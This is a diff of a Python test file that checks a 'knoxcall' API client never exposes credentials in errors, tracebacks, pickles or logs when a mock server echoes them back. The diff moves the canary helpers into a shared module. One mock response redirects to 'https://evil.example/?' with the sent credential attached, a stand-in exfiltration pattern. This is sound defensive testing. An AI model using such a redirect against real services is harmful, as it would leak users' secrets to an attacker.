@@ -2,13 +2,10 @@
 
 from __future__ import annotations
 
-import copy
 import inspect
 import json
 import logging
 import pickle
-import re
-import traceback
 import warnings
 from typing import TYPE_CHECKING, Any, Literal, get_args, get_origin
 
@@ -16,6 +13,7 @@ import pytest
 
 from knoxcall.auth.credentials import OIDCTokenExchange
 from knoxcall.errors import KnoxCallError
+from tests.security.canaries import CANARY, assert_hidden, logged
 from tests.wire.kneo.both_clients import causes_of
 from tests.wire.kneo.raw_server import Exchange, answer, json_answer
 from tests.wire.knoxcall.gateways import Gateway
@@ -26,7 +24,6 @@ if TYPE_CHECKING:
     from tests.wire.kneo.raw_server import RawServer
     from tests.wire.knoxcall.gateways import Either
 
-CANARY = "canary-5up3r-s3cret"
 CREDENTIALS: dict[str, dict[str, Any]] = {
     "client credentials": {"client_id": "tk_x", "client_secret": CANARY},
     "proofs": {"client_id": "tk_x", "client_secret": CANARY, "dpop": "always"},
@@ -91,66 +88,36 @@ def credentials_of(exchange: Exchange) -> str:
     return " ".join([exchange.headers.get(name, "") for name in names]).strip() or exchange.body.decode()
 
 
-def echo_in_the_body(exchange: Exchange) -> None:
+def echo_in_the_body(exchange: Exchange) -> bool:
     sent = credentials_of(exchange)
     exchange.send(json_answer({"error": {"type": sent, "message": sent, "fields": {sent: sent}}, "x": [sent]}, 422))
+    return True
 
 
-def echo_as_text(exchange: Exchange) -> None:
+def echo_as_text(exchange: Exchange) -> bool:
     exchange.send(answer(500, f"<html>{credentials_of(exchange)}</html>".encode()))
+    return True
 
 
-def echo_in_a_success(exchange: Exchange) -> None:
+def echo_in_a_success(exchange: Exchange) -> bool:
     exchange.send(answer(200, f"no json: {credentials_of(exchange)}".encode()))
+    return True
 
 
-def echo_in_a_redirect(exchange: Exchange) -> None:
+def echo_in_a_redirect(exchange: Exchange) -> bool:
     sent = credentials_of(exchange).splitlines()[0]
     exchange.send(answer(302, headers=(f"Location: https://evil.example/?{sent}",)))
+    return True
 
 
-def echo_in_headers(exchange: Exchange) -> None:
+def echo_in_headers(exchange: Exchange) -> bool:
     sent = credentials_of(exchange)
     headers = (f"X-Request-Id: {sent}", f"Retry-After: {sent}", f"X-Odd: {sent}", f"WWW-Authenticate: Bearer {sent}")
     exchange.send(json_answer({"error": "invalid_request", "error_description": sent}, 401, headers=headers))
+    return True
 
 
 PLAYS = (echo_in_the_body, echo_as_text, echo_in_a_success, echo_in_a_redirect, echo_in_headers)
-
-
-OURS = re.compile(r"/(src|site-packages)/(knoxcall|trellis/core)/")
-"""Files of the client, in a checkout or installed."""
-
-
-def frames_of_ours(error: BaseException) -> str:
-    """All local variables of our frames, as a crash reporter would collect them."""
-    found = []
-    for each in causes_of(error):
-        report = traceback.TracebackException.from_exception(each, capture_locals=True)
-        for frame in report.stack:
-            if OURS.search(frame.filename):
-                found.append(f"{frame.filename}:{frame.lineno} {frame.locals}")
-    assert found, "no frame of ours was looked at"
-    return "\n".join(found)
-
-
-def assert_hidden(name: str, error: BaseException, secrets: tuple[str, ...]) -> None:
-    for kind, text in {
-        "str": str(error),
-        "repr": repr(error),
-        "attributes": repr(vars(error)),
-        "pickle": repr(pickle.dumps(error)),
-        "copy": repr(vars(copy.deepcopy(error))),
-        "traceback": "".join(traceback.format_exception(type(error), error, error.__traceback__)),
-        "locals": frames_of_ours(error),
-    }.items():
-        for secret in secrets:
-            assert secret not in text, f"{name}: {kind} shows {secret}: {text}"
-
-
-def logged(caplog: pytest.LogCaptureFixture) -> str:
-    ours = [record for record in caplog.records if record.name.startswith(("knoxcall", "trellis"))]
-    return "\n".join(f"{record.getMessage()} {record.args!r} {record.exc_text!r}" for record in ours)
 
 
 def finish(either: Either, value: Any) -> Any:
@@ -162,20 +129,20 @@ def finish(either: Either, value: Any) -> Any:
 
 @pytest.mark.slow
 @pytest.mark.parametrize("play", PLAYS, ids=lambda play: play.__name__)
-@pytest.mark.parametrize("kind", CREDENTIALS)
+@pytest.mark.parametrize(
+    ("either", "kind"), [*(("sync", kind) for kind in CREDENTIALS), ("async", "proofs")], indirect=["either"]
+)
 def test_no_failure_of_any_method_shows_a_credential(
     either: Either,
     serve: Callable[..., RawServer],
     caplog: pytest.LogCaptureFixture,
-    play: Callable[[Exchange], None],
+    play: Callable[[Exchange], bool],
     kind: str,
 ) -> None:
     caplog.set_level(logging.DEBUG)
     events: list[Any] = []
     token_type = "DPoP" if kind == "proofs" else "Bearer"
-    gateway = Gateway(
-        lambda exchange: play(exchange) or True, token={"access_token": f"kc_{CANARY}", "token_type": token_type}
-    )
+    gateway = Gateway(play, token={"access_token": f"kc_{CANARY}", "token_type": token_type})
     client = either.client(serve(gateway).url, retry_max_attempts=1, hooks=(events.append,), **CREDENTIALS[kind])
     names = []
     for name, call in (*resource_calls(client), *other_calls(client)):
@@ -207,11 +174,11 @@ def test_a_token_endpoint_that_quotes_what_it_got(
     either: Either,
     serve: Callable[..., RawServer],
     caplog: pytest.LogCaptureFixture,
-    play: Callable[[Exchange], None],
+    play: Callable[[Exchange], bool],
     kind: str,
 ) -> None:
     caplog.set_level(logging.DEBUG)
-    gateway = Gateway(mint=lambda exchange, _: play(exchange) or True)
+    gateway = Gateway(mint=lambda exchange, _: play(exchange))
     client = either.client(serve(gateway).url, retry_max_attempts=1, **CREDENTIALS[kind])
     for name, call in (*other_calls(client), ("management", client.account.get)):
         with pytest.raises(KnoxCallError) as caught:
